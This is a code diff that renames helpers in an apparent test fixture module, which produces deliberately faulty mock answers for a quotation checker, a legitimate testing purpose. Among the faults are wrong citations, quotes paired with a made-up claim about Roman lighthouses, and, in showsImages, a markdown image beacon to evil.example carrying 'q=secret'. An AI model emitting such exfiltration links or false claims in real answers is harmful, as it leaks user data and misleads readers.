@@ -5,25 +5,26 @@ type Quote = { passage: number; text: string }
 const line = (sentence: string, quotes: Quote[]) => `${JSON.stringify({ sentence, quotes })}\n`
 const end = '{"end": true}\n'
 
-const wordsOf = (text: string) => new Set(text.toLowerCase().match(/\p{L}{4,}/gu) ?? [])
-const sentencesOf = (text: string) => text.match(/[^.!?\n]+[.!?]/gu)?.map(sentence => sentence.trim()) ?? []
+const splitWords = (text: string) => new Set(text.toLowerCase().match(/\p{L}{4,}/gu) ?? [])
+const splitSentences = (text: string) =>
+  text.match(/[^.!?\n]+[.!?]/gu)?.map(sentence => sentence.trim()) ?? []
 
 type Found = Quote & { score: number }
 
 /** Sentences of the passages that share words with the question, best first. */
 export const findSentences = ({ passages, question }: ReadPrompt): Found[] => {
-  const wanted = wordsOf(question)
+  const wanted = splitWords(question)
   const scored = passages.flatMap(({ number, text }) =>
-    sentencesOf(text).map(sentence => ({
+    splitSentences(text).map(sentence => ({
       passage: number,
       text: sentence,
-      score: [...wordsOf(sentence)].filter(word => wanted.has(word)).length,
+      score: [...splitWords(sentence)].filter(word => wanted.has(word)).length,
     })),
   )
   return scored.filter(({ score }) => score > 0).sort((a, b) => b.score - a.score)
 }
 
-const bestOf = (prompt: ReadPrompt): Quote => findSentences(prompt)[0] ?? { passage: 1, text: '' }
+const findBest = (prompt: ReadPrompt): Quote => findSentences(prompt)[0] ?? { passage: 1, text: '' }
 const other = (passages: readonly ShownPassage[], number: number) =>
   passages.find(passage => passage.number !== number)?.number ?? number + 1
 
@@ -35,7 +36,7 @@ export const honest = (prompt: ReadPrompt): string => {
 }
 
 export const citesWrongPassage = (prompt: ReadPrompt): string => {
-  const { passage, text } = bestOf(prompt)
+  const { passage, text } = findBest(prompt)
   return line(text, [{ passage: other(prompt.passages, passage), text }]) + end
 }
 
@@ -46,7 +47,7 @@ export const inventsQuotes = (prompt: ReadPrompt): string => {
 
 /** A genuine quotation beside a sentence that says something else. */
 export const lies = (prompt: ReadPrompt): string => {
-  const quote = bestOf(prompt)
+  const quote = findBest(prompt)
   const quotes = [{ passage: quote.passage, text: quote.text }]
   return (
     line('The Romans built 77 lighthouses on the coast of Albania.', quotes) +
@@ -55,10 +56,10 @@ export const lies = (prompt: ReadPrompt): string => {
   )
 }
 
-export const quotesNothing = (prompt: ReadPrompt): string => line(bestOf(prompt).text, []) + end
+export const quotesNothing = (prompt: ReadPrompt): string => line(findBest(prompt).text, []) + end
 
 export const showsImages = (prompt: ReadPrompt): string => {
-  const { passage, text } = bestOf(prompt)
+  const { passage, text } = findBest(prompt)
   return (
     line(`${text} ![pixel](https://evil.example/p.png?q=secret)`, [{ passage, text }]) +
     line(`${text} See https://evil.example/more for details.`, [{ passage, text }]) +
